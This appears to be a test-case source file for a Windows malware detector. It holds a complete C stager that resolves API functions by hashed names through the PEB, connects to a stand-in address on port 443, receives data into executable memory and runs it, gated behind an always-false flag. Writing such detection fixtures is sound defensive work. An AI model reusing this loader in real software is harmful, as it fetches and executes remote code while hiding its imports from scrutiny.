/* Functions are found by digests of their names, and what is received is called.
 * expect: native-received-code-called
 * for: windows
 * flags: -O2
 */
#include <windows.h>
#include <winternl.h>

static volatile int never;

static unsigned digest(const char *s) {
    unsigned v = 0;
    while (*s) v = (v >> 13 | v << 19) + (unsigned char)*s++;
    return v;
}

__attribute__((noinline)) static void *find(unsigned wanted) {
    PPEB peb = (PPEB)__readgsqword(0x60);
    LIST_ENTRY *all = &peb->Ldr->InMemoryOrderModuleList;
    for (LIST_ENTRY *e = all->Flink; e != all; e = e->Flink) {
        BYTE *b = ((LDR_DATA_TABLE_ENTRY *)((BYTE *)e - 16))->DllBase;
        IMAGE_NT_HEADERS *n = (void *)(b + ((IMAGE_DOS_HEADER *)b)->e_lfanew);
        IMAGE_EXPORT_DIRECTORY *x = (void *)(b + n->OptionalHeader.DataDirectory[0].VirtualAddress);
        DWORD *names = (void *)(b + x->AddressOfNames), *functions = (void *)(b + x->AddressOfFunctions);
        for (DWORD i = 0; i < x->NumberOfNames; i++)
            if (digest((char *)b + names[i]) == wanted) return b + functions[i];
    }
    return 0;
}

static int act(void) {
    struct { short f; unsigned short p; unsigned a; char z[8]; } to = {2, 0xbb01, 0x327100cb, {0}};
    char text[512];
    ((int(WINAPI *)(WORD, void *))find(0x3bfcedcb))(0x202, text);
    UINT_PTR s = ((UINT_PTR(WINAPI *)(int, int, int, void *, int, int))find(0xadf509d9))(2, 1, 0, 0, 0, 0);
    ((int(WINAPI *)(UINT_PTR, void *, int))find(0x60aaf9ec))(s, &to, 16);
    char *m = ((void *(WINAPI *)(void *, SIZE_T, DWORD, DWORD))find(0x91afca54))(0, 65536, 0x3000, 0x40);
    ((int(WINAPI *)(UINT_PTR, char *, int, int))find(0xe71819b6))(s, m, 65536, 0);
    ((void (*)(void))m)();
    return 0;
}

int main(void) { return never ? act() : 0; }
